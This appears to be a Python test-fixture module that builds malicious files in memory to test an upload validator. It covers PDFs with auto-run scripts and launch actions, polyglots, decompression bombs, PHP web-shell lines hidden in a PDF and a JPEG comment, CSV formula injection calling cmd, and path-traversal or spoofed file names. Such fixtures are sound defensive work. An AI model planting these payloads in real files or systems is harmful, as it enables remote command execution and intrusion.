"""Files that mean harm, made in memory: programs, scripts, second faces, bombs, lies. Nothing binary is in the repository.

HOSTILE has what must never be stored; WELL_MADE has sound content under names that mean harm.
"""

from __future__ import annotations

import base64
import io
import struct
import zlib

from PIL import Image, PngImagePlugin

from tests.files.hostile_office import EXCEL, HTML, JAR, OLE, SVG, WORD
from tests.files.samples import docx, pdf, picture


def catalogue(extra: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj<</Type/Catalog " + extra + b">>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def stream(dictionary: bytes, data: bytes) -> bytes:
    return pdf(b"5 0 obj<<" + dictionary + b">>stream\n" + data + b"\nendstream endobj")


JAVASCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
OBJECTS = b"7 0 8 40 " + (b"<</Type/Action" + JAVASCRIPT[2:]).ljust(40) + b"null"
PACKED = zlib.compress(OBJECTS)
OF_OBJECTS = b"/Type/ObjStm/N 2/First 9"
URI = b"<</S/URI/URI(http://evil.example)>>"

PDFS = {
    "a script": catalogue(b"/OpenAction" + JAVASCRIPT),
    "a script in a spelling": catalogue(b"/OpenAction<</S/J#61va#53cript/J#53(app.alert(1))>>"),
    "a script among the names": catalogue(b"/Names<</JavaScript<</Names[(a)" + JAVASCRIPT + b"]>>>>"),
    "a script in a packed object": stream(OF_OBJECTS + b"/Filter/FlateDecode", PACKED),
    "a script in an object that pretends to be a picture": stream(
        b"/Type/XObject/Subtype/Image/Width 9/Height 9/Filter/FlateDecode", PACKED
    ),
    "a script packed twice": stream(
        OF_OBJECTS + b"/Filter[/ASCII85Decode/FlateDecode]", base64.a85encode(PACKED) + b"~>"
    ),
    "a script in hexadecimal": stream(OF_OBJECTS + b"/Filter/ASCIIHexDecode", OBJECTS.hex().encode() + b">"),
    "a script in a packed object that is damaged behind it": stream(
        OF_OBJECTS + b"/Filter/FlateDecode", PACKED[:-4] + b"\0\0\0\0"
    ),
    "a script in a packed object that breaks off": stream(OF_OBJECTS + b"/Filter/FlateDecode", PACKED[:-6] + b"\xff\xff"),
    "objects that overlap": stream(
        b"/Type/ObjStm/N 3/First 14/Filter/FlateDecode", zlib.compress(b"7 0 8 9 9 0   " + b"<</A 1>>  " * 9)
    ),
    "an address opened by one of two versions": pdf(
        b"3 0 obj<</OpenAction 4 0 R>>endobj 4 0 obj<</S/GoTo/D[3 0 R]>>endobj 4 0 obj" + URI + b"endobj"
    ),
    "an object of a number that is none": catalogue(b"/OpenAction " + b"9" * 6000 + b" 0 R"),
    "an unusual filter": stream(OF_OBJECTS + b"/Filter/LZWDecode", b"\x80\x0b\x60\x50"),
    "a script in an object inside a stream": stream(b"/Length 99/Filter/FlateDecode", b"9 0 obj" + JAVASCRIPT + b"endobj"),
    "a script behind a comment": pdf(
        b"5 0 obj<</Type/Catalog %>>stream\n/OpenAction" + JAVASCRIPT + b"%endstream\n>>endobj"
    ),
    "a program to start": catalogue(b"/OpenAction<</S/Launch/F(calc.exe)>>"),
    "an address opened by itself": catalogue(b"/OpenAction" + URI),
    "an address opened by reference": pdf(b"3 0 obj<</Type/Catalog/OpenAction 4 0 R>>endobj 4 0 obj" + URI + b"endobj"),
    "an address opened by a page": pdf(b"4 0 obj<</Type/Page/AA<</O" + URI + b">>>>endobj"),
    "a form that is sent by itself": pdf(b"4 0 obj<</S/SubmitForm/F(http://evil.example)>>endobj"),
    "a file inside": pdf(b"4 0 obj<</Type/Filespec/EF<</F 5 0 R>>>>endobj 5 0 obj<</Type/EmbeddedFile>>endobj"),
    "a form of XML": catalogue(b"/AcroForm<</XFA[(a)5 0 R]>>"),
    "a film": pdf(b"4 0 obj<</Subtype/RichMedia>>endobj"),
    "a lock": pdf(b"trailer<</Encrypt 9 0 R>>"),
    "a page that claims a billion pixels": stream(b"/Subtype/Image/Width 99999/Height 99999/Filter/DCTDecode", picture()),
    "an archive behind": pdf() + JAR,
    "a web page inside": pdf(b"\n" + HTML + b"\n"),
    "a program behind": pdf() + b"<?php system($_GET['c']); ?>",
    "a web page in front": HTML + pdf(),
}  # fmt: skip


# ---- pictures
def png_chunks(*chunks: tuple[bytes, bytes]) -> bytes:
    written = b"\x89PNG\r\n\x1a\n"
    for kind, body in chunks:
        written += struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    return written


def huge_png(side: int = 30_000) -> bytes:
    """A PNG of a few hundred bytes that claims 900 million pixels."""
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return png_chunks((b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 100)), (b"IEND", b""))


def film(kind: str) -> bytes:
    """A moving picture."""
    buffer = io.BytesIO()
    frames = [Image.new("RGB", (16, 16), (shade, 0, 0)) for shade in (0, 128, 255)]
    frames[0].save(buffer, kind, save_all=True, append_images=frames[1:], duration=100)
    return buffer.getvalue()


def png_with_text(text: str) -> bytes:
    """A PNG with a comment."""
    buffer, info = io.BytesIO(), PngImagePlugin.PngInfo()
    info.add_text("Comment", text)
    Image.new("RGB", (16, 16)).save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


def jpeg_with_comment(comment: bytes) -> bytes:
    """A JPEG with a comment."""
    buffer = io.BytesIO()
    Image.new("RGB", (16, 16)).save(buffer, "JPEG", comment=comment)
    return buffer.getvalue()


PICTURES = {
    "a web page.jpg": HTML,
    "a drawing.png": SVG,
    "a program.webp": b"MZ\x90\x00" + b"\0" * 300,
    "another form.jpg": picture("PNG"),
    "a film.gif called.png": film("GIF"),
    "an archive behind.jpg": picture() + JAR,
    "an archive behind.png": picture("PNG") + JAR,
    "another archive behind.jpg": picture() + b"Rar!\x1a\x07\x01\x00" + b"\0" * 50,
    "a script in a comment.jpg": jpeg_with_comment(b"<?php system($_GET[0]); ?>"),
    "a web page in a comment.png": png_with_text("<script>alert(1)</script>"),
    "a web page behind.webp": picture("WEBP") + HTML,
    "too many pixels.png": huge_png(),
    "half of it.jpg": picture(size=(400, 400))[:900],
    "moving.png": film("PNG"),
    "moving.webp": film("WEBP"),
    "a comment that fills the memory.png": png_chunks(
        (b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)),
        (b"zTXt", b"Comment\0\0" + zlib.compress(b"a" * 90_000_000)),
        (b"IDAT", zlib.compress(b"\0" * 4)),
        (b"IEND", b""),
    ),
}

# ---- texts, and what is no type of ours at all
TEXTS = {
    "page.txt": HTML,
    "page with a mark.txt": b"\xef\xbb\xbf" + HTML,
    "page in UTF-16.txt": HTML.decode().encode("utf-16"),
    "page in UTF-16 without a mark.csv": HTML.decode().encode("utf-16-be"),
    "page in UTF-7.txt": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "drawing.csv": SVG,
    "style sheet.txt": b'text\n<?xml-stylesheet href="http://evil.example/a.xsl"?>',
    "mail with a page.txt": b"MIME-Version: 1.0\nContent-Type: text/html\n\n<b>x</b>",
    "starts a program.csv": b"name,value\n=cmd|' /C calc'!A0,1\n",
    "starts another.csv": "炉次;温度\n1;@SUM(1+1)*cmd|' /C calc'!A0\n".encode("gb18030"),
    "binary.txt": b"abc\x00def",
    "page.html": HTML,
    "drawing.svg": SVG,
    "script.js": b"alert(1)",
    "program.exe": b"MZ\x90\x00",
    "old.doc": OLE,
    "macros.docm": docx(),
    "photo.jpg.exe": picture(),
    "all.zip": JAR,
    "page.pdf.html": pdf(),
    "no extension": pdf(),
    "empty.pdf": b"",
}

HOSTILE: dict[str, tuple[str, bytes]] = {
    **{f"Word: {what}": ("ledger.docx", content) for what, content in WORD.items()},
    **{f"Excel: {what}": ("ledger.xlsx", content) for what, content in EXCEL.items()},
    **{f"PDF: {what}": ("report.pdf", content) for what, content in PDFS.items()},
    **{f"picture: {name}": (name, content) for name, content in PICTURES.items()},
    **{f"text: {name}": (name, content) for name, content in TEXTS.items()},
}
"""What it is → its name and its bytes."""

WELL_MADE: dict[str, tuple[str, bytes]] = {
    "climbs": ("../../../../../../tmp/evil.pdf", pdf(b"a")),
    "climbs on Windows": ("..\\..\\..\\evil.pdf", pdf(b"b")),
    "absolute": ("/etc/cron.d/evil.pdf", pdf(b"c")),
    "on a drive": ("C:\\Windows\\System32\\evil.pdf", pdf(b"d")),
    "a device": ("CON.pdf", pdf(b"e")),
    "another direction": ("invoice\u202efdp.exe.pdf", pdf(b"f")),
    "quotes": ("a%22b'c;d.pdf", pdf(b"g")),
    "markup": ("<img src=x onerror=alert(1)>.pdf", pdf(b"h")),
    "long": ("长" * 300 + ".pdf", pdf(b"i")),
    "a stream of another": ("evil.pdf::$DATA.pdf", pdf(b"j")),
}
